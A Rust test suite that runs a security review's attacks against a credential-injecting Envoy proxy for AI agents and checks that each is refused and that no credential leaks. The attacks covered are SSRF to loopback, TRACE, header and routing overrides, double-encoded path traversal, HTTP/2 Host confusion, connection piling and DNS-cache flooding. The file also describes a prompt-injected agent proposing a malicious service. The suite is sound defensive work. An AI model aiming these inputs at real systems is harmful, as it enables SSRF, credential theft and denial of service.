//! The proxy side of the December 2026 security review, each finding reproduced as the
//! review describes the attack, through the real Envoy with the built filter. Every
//! upstream is on loopback and records what it receives: a refused request must never
//! arrive, least of all with the credential.
//!
//! Envoy here allows exactly the upstreams a test names as private destinations
//! (`ALLOWED_PRIVATE_UPSTREAMS`), so everything else on loopback (another port the
//! agent opened, the control plane's API) is refused as it would be in production.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use agent_vault_testkit::control_plane::{Api, Server, ServerOptions};
use agent_vault_testkit::http::{proxy_basic, HttpResponse};
use agent_vault_testkit::stack::{on_every_worker, wait_for, Stack};
use agent_vault_testkit::upstream::Echo;

/// Both workers load their first snapshot within this.
const SNAPSHOT: Duration = Duration::from_secs(15);

/// A stack whose Envoy may reach exactly these echo upstreams (127.0.0.1, their port)
/// among private destinations.
fn stack_allowing(allowed: &[&Echo]) -> Stack {
    let entries: Vec<String> = allowed
        .iter()
        .map(|echo| format!("127.0.0.1/32:{}", echo.port))
        .collect();
    let entries: Vec<&str> = entries.iter().map(String::as_str).collect();
    Stack::start_with(ServerOptions::default(), |options| {
        options.allow_private_upstreams(&entries)
    })
}

/// `service` gets `ECHO_TOKEN` = `secret` as a bearer token, plain HTTP.
fn bearer_service(stack: &Stack, vault: &str, name: &str, host: &str, secret: &str) {
    stack.set_credential(vault, "ECHO_TOKEN", secret);
    stack.add_service(
        vault,
        json!({"name": name, "host": host, "upstream_tls": false,
               "auth": {"type": "bearer", "token": "ECHO_TOKEN"}}),
    );
}

/// Waits until both workers answer `url` for the agent with a 200 (their snapshots
/// know the agent and its rules).
fn wait_until_served(stack: &Stack, token: &str, vault: &str, url: &str) -> HttpResponse {
    on_every_worker(
        &stack.envoy,
        SNAPSHOT,
        4,
        || stack.get_as(token, vault, url, &[]),
        |r| r.status == 200,
    )
}

#[track_caller]
fn assert_refused(response: &HttpResponse, status: u16, code: &str, what: &str) {
    assert_eq!(
        (response.status, response.header("x-agent-vault-error")),
        (status, Some("true")),
        "{what}: {} {:?} {}",
        response.status,
        response.headers,
        response.body
    );
    assert_eq!(response.json()["error"], code, "{what}: {}", response.body);
    assert_eq!(
        response.header("content-type"),
        Some("application/json"),
        "{what}"
    );
}

/// The port of the control plane's API (its management API and UI).
fn api_port(server: &Server) -> u16 {
    server
        .addr
        .rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .expect("the API's port")
}

const DENIED_STAT: &str = "http.agent_vault.rbac.destination.denied";

// ---------------------------------------------------------------- H4 + M3: SSRF

#[test]
fn a_passthrough_vault_reaches_no_other_loopback_port_and_not_the_control_plane() {
    let allowed = Echo::plain();
    let attacker = Echo::plain();
    let stack = stack_allowing(&[&allowed]);
    stack.create_vault("open");
    stack.set_unmatched_host_policy("open", "passthrough");
    let token = stack.create_agent("roamer", &["open"]);
    wait_until_served(&stack, &token, "open", &allowed.url("/fine"));

    let api = api_port(&stack.server);
    let attempts = [
        format!("http://127.0.0.1:{}/steal", attacker.port),
        // Names that resolve to loopback: Envoy's resolver reads localhost itself.
        format!("http://localhost:{}/steal", attacker.port),
        format!("http://0.0.0.0:{}/steal", attacker.port),
        format!("http://127.0.0.2:{}/steal", attacker.port),
        format!("http://127.0.0.1:{api}/health"),
        format!("http://localhost:{api}/v1/vaults"),
    ];
    let before = stack.envoy.counter(DENIED_STAT);
    for url in &attempts {
        let response = stack.get_as(&token, "open", url, &[]);
        assert_refused(&response, 403, "destination_forbidden", url);
        let message = response.json()["message"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        assert!(message.contains("ALLOWED_PRIVATE_UPSTREAMS"), "{message}");
    }
    // Refused one way or another: IPv6 loopback (this Envoy resolves IPv4 only) and
    // the short form of 127.0.0.1 (its resolver does not read it as an address).
    for url in [
        format!("http://[::1]:{}/steal", attacker.port),
        format!("http://127.1:{}/steal", attacker.port),
    ] {
        let response = stack.get_as(&token, "open", &url, &[]);
        assert!(
            !(200..300).contains(&response.status),
            "{url}: {} {}",
            response.status,
            response.body
        );
    }
    assert!(
        attacker.received().is_empty(),
        "the agent's own loopback server was reached: {:?}",
        attacker.received()
    );
    // Operators see the refusals (Envoy flushes counters to the admin API at once).
    let denied = stack.envoy.counter(DENIED_STAT) - before;
    assert!(
        denied >= attempts.len() as u64,
        "{DENIED_STAT} counted {denied} of {}",
        attempts.len()
    );
    // The vault's request log says what was refused, and where to.
    let logged = wait_for(Duration::from_secs(15), || {
        let records = stack.request_log("open");
        let refused: Vec<Value> = records
            .into_iter()
            .filter(|r| r["error"] == "destination_forbidden")
            .collect();
        (refused.len() >= attempts.len()).then_some(refused)
    })
    .unwrap_or_else(|| panic!("request log: {:?}", stack.request_log("open")));
    assert!(
        logged
            .iter()
            .all(|r| r["status"] == 403 && r["agent"] == "roamer"),
        "{logged:?}"
    );
    // The allowed upstream is still reached, and only it.
    let fine = stack.get_as(&token, "open", &allowed.url("/still-fine"), &[]);
    assert_eq!(fine.echoed()["path"], "/still-fine");
}

#[test]
fn a_service_whose_host_resolves_to_loopback_never_receives_its_credential() {
    let allowed = Echo::plain();
    let attacker = Echo::plain();
    let stack = stack_allowing(&[&allowed]);
    let secret = "sk_live_ssrf_5d4c3b2a1f0e";
    bearer_service(&stack, "default", "echo", &allowed.authority(), secret);
    // What a prompt-injected agent proposes and a human approves: a name (here
    // `localhost`, as a DNS name resolving to 127.0.0.1 would be) and a literal.
    for (name, host) in [
        ("by-name", format!("localhost:{}", attacker.port)),
        ("by-address", format!("127.0.0.1:{}", attacker.port)),
    ] {
        stack.add_service(
            "default",
            json!({"name": name, "host": host, "upstream_tls": false,
                   "auth": {"type": "bearer", "token": "ECHO_TOKEN"}}),
        );
    }
    let token = stack.create_agent("prober", &["default"]);
    let served = wait_until_served(&stack, &token, "default", &allowed.url("/ok"));
    assert_eq!(
        served.echoed()["headers"]["authorization"],
        format!("Bearer {secret}")
    );

    for url in [
        format!("http://localhost:{}/collect", attacker.port),
        format!("http://127.0.0.1:{}/collect", attacker.port),
    ] {
        let response = stack.get_as(&token, "default", &url, &[]);
        assert_refused(&response, 403, "destination_forbidden", &url);
        assert!(!response.body.contains(secret), "{}", response.body);
    }
    assert!(
        attacker.received().is_empty(),
        "the credential reached a loopback port nobody allowed: {:?}",
        attacker.received()
    );
}

// ---------------------------------------------------------------- M1: admin

#[test]
fn envoys_admin_api_is_a_0600_unix_socket_and_no_tcp_port() {
    use std::os::unix::fs::{FileTypeExt, PermissionsExt};
    let stack = Stack::start();
    let meta = std::fs::metadata(&stack.envoy.admin_socket).expect("the admin socket");
    assert!(meta.file_type().is_socket());
    assert_eq!(
        meta.permissions().mode() & 0o777,
        0o600,
        "admin socket mode"
    );
    assert_eq!(stack.envoy.admin_get("/ready").status, 200);
    let config = stack.envoy.config();
    let admin = config
        .split("\nadmin:")
        .nth(1)
        .and_then(|rest| rest.split("\n\n").next())
        .unwrap_or_default();
    assert!(
        admin.contains("pipe:") && !admin.contains("socket_address"),
        "{admin}"
    );
    // No TCP listener but the proxy's: Envoy's own sockets, from /proc.
    let pid = stack.envoy.pid().expect("Envoy's pid");
    let listening = tcp_listening_ports_of(pid);
    assert_eq!(
        listening,
        vec![stack.envoy.port],
        "Envoy listens only as the proxy"
    );
}

/// The TCP ports process `pid` listens on (IPv4 and IPv6), from /proc.
fn tcp_listening_ports_of(pid: u32) -> Vec<u16> {
    let inodes: Vec<String> = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|dir| {
            dir.flatten()
                .filter_map(|fd| std::fs::read_link(fd.path()).ok())
                .filter_map(|target| {
                    let target = target.to_string_lossy().into_owned();
                    target
                        .strip_prefix("socket:[")
                        .and_then(|rest| rest.strip_suffix(']'))
                        .map(str::to_owned)
                })
                .collect()
        })
        .unwrap_or_default();
    let mut ports = Vec::new();
    for table in ["tcp", "tcp6"] {
        let text = std::fs::read_to_string(format!("/proc/{pid}/net/{table}")).unwrap_or_default();
        for line in text.lines().skip(1) {
            let fields: Vec<&str> = line.split_whitespace().collect();
            // local_address, rem_address, st (0A = LISTEN), ..., inode (10th)
            let (Some(local), Some(state), Some(inode)) =
                (fields.get(1), fields.get(3), fields.get(9))
            else {
                continue;
            };
            if *state != "0A" || !inodes.iter().any(|i| i == inode) {
                continue;
            }
            if let Some(port) = local
                .rsplit(':')
                .next()
                .and_then(|hex| u16::from_str_radix(hex, 16).ok())
            {
                if !ports.contains(&port) {
                    ports.push(port);
                }
            }
        }
    }
    ports
}

// ---------------------------------------------------------------- M4: TRACE

#[test]
fn trace_and_track_are_refused_in_any_case_and_never_reach_the_upstream() {
    let echo = Echo::plain();
    let stack = stack_allowing(&[&echo]);
    let secret = "sk_live_trace_9a8b7c6d";
    bearer_service(&stack, "default", "echo", &echo.authority(), secret);
    stack.create_vault("open");
    stack.set_unmatched_host_policy("open", "passthrough");
    let token = stack.create_agent("tracer", &["default", "open"]);
    wait_until_served(&stack, &token, "default", &echo.url("/ok"));
    echo.clear();

    for vault in ["default", "open"] {
        let auth = proxy_basic(&token, vault);
        for method in ["TRACE", "TRACK", "trace", "Trace", "track"] {
            let response = stack.envoy.request(
                method,
                &echo.url("/"),
                &[("Proxy-Authorization", &auth)],
                None,
            );
            let what = format!("{method} via vault {vault}");
            assert!(!response.body.contains(secret), "{what}");
            if method != "TRACE" {
                // Envoy's HTTP/1 codec already refuses these (400): TRACK is no method
                // it knows, and methods are case-sensitive. The filter would refuse
                // them too (its unit tests cover any case).
                assert!(
                    matches!(response.status, 400 | 405),
                    "{what}: {} {}",
                    response.status,
                    response.body
                );
                continue;
            }
            assert_refused(&response, 405, "method_not_allowed", &what);
            assert!(response.header("allow").is_some(), "{what}");
        }
    }
    assert!(
        echo.received().is_empty(),
        "a TRACE reached the upstream: {:?}",
        echo.received()
    );
}

// ---------------------------------------------------------------- M2: wildcards

#[test]
fn wildcards_over_public_suffixes_are_refused_by_the_cli_the_api_and_proposals() {
    let server = Server::start();
    let session = server.owner_token();
    let cli = server.cli().with_token(&session);
    let owner = server.api(Some(&session));
    let (status, body) = owner.post(
        "/v1/vaults/default/credentials",
        &json!({"credentials": {"K": "v"}}),
    );
    assert_eq!(status, 200, "{body}");

    for (host, suffix) in [
        ("*.herokuapp.com", "herokuapp.com"),
        ("*.co.uk", "co.uk"),
        ("*.s3.amazonaws.com", "s3.amazonaws.com"),
        ("*.ngrok-free.app", "ngrok-free.app"),
        ("*.nip.io", "nip.io"),
        ("*.com", "*.com"),
    ] {
        let out = cli
            .run(&[
                "vault",
                "service",
                "add",
                "--name",
                "w",
                "--host",
                host,
                "--auth-type",
                "bearer",
                "--token-key",
                "K",
                "--vault",
                "default",
            ])
            .fails();
        let stderr = out.stderr.trim_end();
        assert_eq!(stderr.lines().count(), 1, "{host}: one line: {stderr}");
        assert!(stderr.contains(suffix), "{host}: names {suffix}: {stderr}");
    }
    // The same through a proposal: refused when it is created, nothing to approve.
    let agent_token = agent_token(&owner, "proposer");
    let agent = Api {
        token: Some(agent_token),
        ..server.api(None)
    };
    let (status, body) = agent.post(
        "/v1/proposals",
        &json!({"services": [{"action": "set", "name": "heroku", "host": "*.herokuapp.com",
                              "auth": {"type": "passthrough"}}],
                "message": "my app"}),
    );
    assert_eq!(status, 400, "{body}");
    assert!(
        body["message"]
            .as_str()
            .is_some_and(|m| m.contains("herokuapp.com")),
        "{body}"
    );
    // Ordinary wildcards are still fine.
    for host in ["*.github.com", "*.example.com"] {
        cli.run(&[
            "vault",
            "service",
            "add",
            "--name",
            "ok",
            "--host",
            host,
            "--auth-type",
            "passthrough",
            "--vault",
            "default",
        ])
        .ok();
        cli.run(&["vault", "service", "remove", "ok", "--vault", "default"])
            .ok();
    }
}

fn agent_token(owner: &Api, name: &str) -> String {
    let (status, body) = owner.post(
        "/v1/agents",
        &json!({"name": name, "vaults": [{"vault": "default"}]}),
    );
    assert_eq!(status, 201, "{body}");
    body["token"].as_str().expect("token").to_owned()
}

// ---------------------------------------------------------------- L5: plain port

#[test]
fn a_plain_service_without_a_port_sends_no_credential_to_another_port_of_its_host() {
    let echo = Echo::plain();
    let stack = stack_allowing(&[&echo]);
    let secret = "sk_live_port_1e2d3c4b";
    // `localhost` stands for `internal.example`: a name Envoy resolves here.
    bearer_service(&stack, "default", "internal", "localhost", secret);
    let token = stack.create_agent("porter", &["default"]);
    let url = echo.url("/v1/x");
    let response = on_every_worker(
        &stack.envoy,
        SNAPSHOT,
        4,
        || stack.get_as(&token, "default", &url, &[]),
        |r| r.status == 403,
    );
    assert_refused(&response, 403, "forbidden", &url);
    assert_eq!(
        response.json()["proposal_hint"]["host"],
        echo.authority(),
        "the hint names the port that has no service"
    );
    assert!(
        echo.received().is_empty(),
        "the credential went to another port: {:?}",
        echo.received()
    );
}

// ---------------------------------------------------------------- L2 and L6: headers

#[test]
fn agents_x_envoy_headers_are_neither_obeyed_nor_forwarded() {
    let echo = Echo::plain();
    let stack = stack_allowing(&[&echo]);
    bearer_service(&stack, "default", "echo", &echo.authority(), "sk_x_envoy");
    let token = stack.create_agent("retrier", &["default"]);
    wait_until_served(&stack, &token, "default", &echo.url("/ok"));
    echo.clear();

    let response = stack.get_as(
        &token,
        "default",
        &echo.url("/status/503"),
        &[
            ("x-envoy-retry-on", "5xx"),
            ("x-envoy-max-retries", "3"),
            ("x-envoy-upstream-rq-timeout-ms", "0"),
            ("X-Envoy-Force-Trace", "true"),
            ("x-envoy-anything", "else"),
        ],
    );
    assert_eq!(response.status, 503, "{}", response.body);
    let received = echo.received();
    assert_eq!(received.len(), 1, "retried for the agent: {received:?}");
    let names: Vec<String> = received[0]["header_list"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h[0].as_str().unwrap().to_ascii_lowercase())
        .collect();
    assert!(
        !names.iter().any(|n| n.starts_with("x-envoy-")),
        "x-envoy-* reached the upstream: {names:?}"
    );
}

#[test]
fn routing_override_headers_never_reach_the_upstream() {
    let echo = Echo::plain();
    let stack = stack_allowing(&[&echo]);
    stack.set_credential("default", "ECHO_TOKEN", "sk_override");
    stack.add_service(
        "default",
        json!({"name": "public", "host": format!("{}/v1/public/*", echo.authority()),
               "upstream_tls": false, "auth": {"type": "bearer", "token": "ECHO_TOKEN"}}),
    );
    let token = stack.create_agent("rewriter", &["default"]);
    wait_until_served(&stack, &token, "default", &echo.url("/v1/public/ok"));
    echo.clear();

    let overrides = [
        ("X-Forwarded-Host", "admin.internal"),
        ("X-Forwarded-Server", "admin.internal"),
        ("X-Forwarded-Prefix", "/admin"),
        ("X-Original-Host", "admin.internal"),
        ("X-Original-URL", "/admin/delete-everything"),
        ("X-Rewrite-URL", "/admin/delete-everything"),
        ("X-HTTP-Method-Override", "DELETE"),
        ("X-HTTP-Method", "DELETE"),
        ("X-Method-Override", "DELETE"),
    ];
    let response = stack.get_as(&token, "default", &echo.url("/v1/public/x"), &overrides);
    let seen = response.echoed();
    for (name, _) in overrides {
        assert!(
            seen["headers"].get(name.to_ascii_lowercase()).is_none(),
            "{name} reached the upstream: {}",
            seen["headers"]
        );
    }
    assert_eq!(seen["headers"]["authorization"], "Bearer sk_override");
}

#[test]
fn a_request_whose_headers_never_finish_is_disconnected_after_the_header_timeout() {
    let stack = Stack::start();
    let mut stream = TcpStream::connect(("127.0.0.1", stack.envoy.port)).expect("connect");
    stream
        .write_all(b"GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n")
        .expect("half a request");
    stream
        .set_read_timeout(Some(Duration::from_secs(40)))
        .unwrap();
    let start = Instant::now();
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    let waited = start.elapsed();
    assert!(
        waited < Duration::from_secs(20),
        "still connected after {waited:?}"
    );
    assert!(
        waited >= Duration::from_secs(8),
        "closed before the 10 s timeout: {waited:?} {:?}",
        String::from_utf8_lossy(&answer)
    );
}

// ---------------------------------------------------------------- S4: idle piles

#[test]
fn hundreds_of_idle_and_half_sent_connections_do_not_stop_a_new_agent_request() {
    let echo = Echo::plain();
    let stack = stack_allowing(&[&echo]);
    bearer_service(&stack, "default", "echo", &echo.authority(), "sk_idle");
    let token = stack.create_agent("patient", &["default"]);
    wait_until_served(&stack, &token, "default", &echo.url("/ok"));

    let mut held = Vec::new();
    for i in 0..400 {
        let mut stream = TcpStream::connect(("127.0.0.1", stack.envoy.port)).expect("connect");
        if i % 4 == 0 {
            let _ = stream.write_all(b"GET http://example.com/ HTTP/1.1\r\nHost: exa");
        }
        held.push(stream);
    }
    let start = Instant::now();
    let response = stack.get_as(&token, "default", &echo.url("/after-the-pile"), &[]);
    assert_eq!(response.echoed()["path"], "/after-the-pile");
    assert!(
        start.elapsed() < Duration::from_secs(5),
        "{:?}",
        start.elapsed()
    );
    drop(held);
}

// ---------------------------------------------------------------- S2: double encoding

#[test]
fn double_encoded_dot_segments_never_match_a_path_scoped_service() {
    let echo = Echo::plain();
    let stack = stack_allowing(&[&echo]);
    let secret = "sk_live_scoped_77aa";
    stack.set_credential("default", "ECHO_TOKEN", secret);
    stack.add_service(
        "default",
        json!({"name": "public", "host": format!("{}/v1/public/*", echo.authority()),
               "upstream_tls": false, "auth": {"type": "bearer", "token": "ECHO_TOKEN"}}),
    );
    let token = stack.create_agent("climber", &["default"]);
    wait_until_served(&stack, &token, "default", &echo.url("/v1/public/ok"));
    echo.clear();

    for path in [
        "/v1/public/%252e%252e/admin",
        "/v1/public/%252E%252E/admin",
        "/v1/public/..%252fadmin",
        "/v1/public/%25252e%25252e/admin",
        "/v1/public/%252e%252e%255cadmin",
    ] {
        let response = stack.get_as(&token, "default", &echo.url(path), &[]);
        assert_refused(&response, 403, "forbidden", path);
    }
    assert!(
        echo.received().is_empty(),
        "a double-encoded escape got the credential: {:?}",
        echo.received()
    );
    // A literal %25 elsewhere is still an ordinary path.
    let fine = stack.get_as(&token, "default", &echo.url("/v1/public/100%25"), &[]);
    assert_eq!(
        fine.echoed()["headers"]["authorization"],
        format!("Bearer {secret}")
    );
}

// ---------------------------------------------------------------- S1: HTTP/2

/// One HTTP/2 request with prior knowledge (h2c) on a new connection: the client
/// preface, empty SETTINGS, and one HEADERS frame whose header block lists `headers`
/// as HPACK literals (no compression, so the test says exactly what is sent). Returns
/// the frame types the server sent back before it went quiet or closed.
fn h2c_request(port: u16, headers: &[(&str, &str)]) -> Vec<u8> {
    fn hpack_len(out: &mut Vec<u8>, len: usize) {
        // 7-bit prefix integer, no Huffman.
        if len < 127 {
            out.push(len as u8);
        } else {
            out.push(127);
            let mut rest = len - 127;
            while rest >= 128 {
                out.push((rest % 128) as u8 | 0x80);
                rest /= 128;
            }
            out.push(rest as u8);
        }
    }
    let mut block = Vec::new();
    for (name, value) in headers {
        block.push(0x00); // literal without indexing, new name
        hpack_len(&mut block, name.len());
        block.extend_from_slice(name.as_bytes());
        hpack_len(&mut block, value.len());
        block.extend_from_slice(value.as_bytes());
    }
    let frame = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
        let len = payload.len();
        let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
        f.extend_from_slice(&stream.to_be_bytes());
        f.extend_from_slice(payload);
        f
    };
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(0x4, 0, 0, &[])); // SETTINGS
    bytes.extend(frame(0x1, 0x5, 1, &block)); // HEADERS, END_STREAM | END_HEADERS
    let mut stream = TcpStream::connect(("127.0.0.1", port)).expect("connect");
    stream.write_all(&bytes).expect("send");
    stream
        .set_read_timeout(Some(Duration::from_secs(3)))
        .unwrap();
    let mut data = Vec::new();
    let mut buf = [0u8; 16 * 1024];
    while let Ok(n) = stream.read(&mut buf) {
        if n == 0 {
            break;
        }
        data.extend_from_slice(&buf[..n]);
        // Stop after a frame that ends stream 1 (DATA or HEADERS with END_STREAM)
        // or a GOAWAY.
        if frames(&data)
            .iter()
            .any(|(kind, flags, id)| (*id == 1 && flags & 0x1 != 0 && *kind <= 1) || *kind == 7)
        {
            break;
        }
    }
    frames(&data).into_iter().map(|(kind, _, _)| kind).collect()
}

/// (type, flags, stream id) of every whole frame in `data`.
fn frames(data: &[u8]) -> Vec<(u8, u8, u32)> {
    let mut out = Vec::new();
    let mut at = 0;
    while data.len() >= at + 9 {
        let len = (usize::from(data[at]) << 16)
            | (usize::from(data[at + 1]) << 8)
            | usize::from(data[at + 2]);
        let id = u32::from_be_bytes([data[at + 5], data[at + 6], data[at + 7], data[at + 8]])
            & 0x7fff_ffff;
        out.push((data[at + 3], data[at + 4], id));
        at += 9 + len;
    }
    out
}

#[test]
fn an_http2_request_with_authority_and_a_different_host_reaches_only_the_matched_host() {
    let echo = Echo::plain();
    let stack = stack_allowing(&[&echo]);
    let secret = "sk_live_h2_0f1e2d";
    bearer_service(&stack, "default", "echo", &echo.authority(), secret);
    let token = stack.create_agent("h2", &["default"]);
    wait_until_served(&stack, &token, "default", &echo.url("/ok"));
    echo.clear();

    let auth = format!("Bearer {token}");
    let authority = echo.authority();
    let kinds = h2c_request(
        stack.envoy.port,
        &[
            (":method", "GET"),
            (":scheme", "http"),
            (":authority", &authority),
            (":path", "/h2"),
            ("host", "evil.example"),
            ("proxy-authorization", &auth),
        ],
    );
    assert!(
        kinds.contains(&1) || kinds.contains(&3) || kinds.contains(&7),
        "the proxy answered the h2c request (HEADERS, RST_STREAM or GOAWAY): {kinds:?}"
    );
    let received = echo.received();
    assert_eq!(received.len(), 1, "{received:?}");
    for seen in received {
        let hosts: Vec<&Value> = seen["header_list"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|h| h[0].as_str().unwrap().eq_ignore_ascii_case("host"))
            .map(|h| &h[1])
            .collect();
        assert_eq!(
            hosts,
            [&Value::from(authority.clone())],
            "one Host, the matched one"
        );
        assert!(!seen.to_string().contains("evil.example"), "{seen}");
    }
    // And the other way round: a request for evil.example with a Host of the service
    // gets nothing injected for the service.
    echo.clear();
    let kinds = h2c_request(
        stack.envoy.port,
        &[
            (":method", "GET"),
            (":scheme", "http"),
            (":authority", "evil.example"),
            (":path", "/h2"),
            ("host", &authority),
            ("proxy-authorization", &auth),
        ],
    );
    assert!(!kinds.is_empty());
    assert!(
        echo.received().is_empty(),
        "the Host header chose the service: {:?}",
        echo.received()
    );
}

// ---------------------------------------------------------------- M7: DNS cache

/// A gauge or counter from Envoy's `/stats` (0 when absent), by exact name.
fn envoy_stat(stack: &Stack, name: &str) -> u64 {
    stack.envoy.counter(name)
}

#[test]
fn one_agent_filling_the_dns_cache_does_not_stop_another_agents_new_host() {
    let echo = Echo::plain();
    let stack = stack_allowing(&[&echo]);
    bearer_service(
        &stack,
        "default",
        "echo",
        &echo.authority(),
        "sk_dns_victim",
    );
    stack.create_vault("open");
    stack.set_unmatched_host_policy("open", "passthrough");
    let filler = stack.create_agent("filler", &["open"]);
    let victim = stack.create_agent("victim", &["default"]);
    // Both agents known to both workers, without resolving the victim's host yet.
    wait_until_served(
        &stack,
        &filler,
        "open",
        &format!("http://127.0.0.1:{}/warm", echo.port),
    );
    on_every_worker(
        &stack.envoy,
        SNAPSHOT,
        4,
        || stack.get_as(&victim, "default", "http://not-approved.invalid/", &[]),
        |r| r.status == 403,
    );

    // The review's attack: a passthrough agent sends to ever new names under .invalid,
    // which never resolve but each took a slot of the shared DNS cache.
    let attempts = 1100;
    let mut refused = 0;
    for i in 0..attempts {
        let response = stack.get_as(&filler, "open", &format!("http://fill{i}.invalid/"), &[]);
        if response.status == 429 {
            assert_refused(
                &response,
                429,
                "too_many_hosts",
                "a new host past the budget",
            );
            refused += 1;
        }
    }
    // At most 100 new hosts per worker (two workers) got as far as Envoy's resolver.
    assert!(
        refused >= attempts - 2 * 100,
        "only {refused} of {attempts} refused"
    );
    let cached = envoy_stat(&stack, "dns_cache.agent_vault_dns_cache.num_hosts");
    assert!(cached <= 2 * 100 + 2, "{cached} hosts in the DNS cache");
    assert_eq!(
        envoy_stat(&stack, "dns_cache.agent_vault_dns_cache.host_overflow"),
        0
    );

    // The other agent's approved host, never resolved before, is served.
    let response = stack.get_as(&victim, "default", &echo.url("/mine"), &[]);
    assert_eq!(
        response.echoed()["headers"]["authorization"],
        "Bearer sk_dns_victim"
    );
}
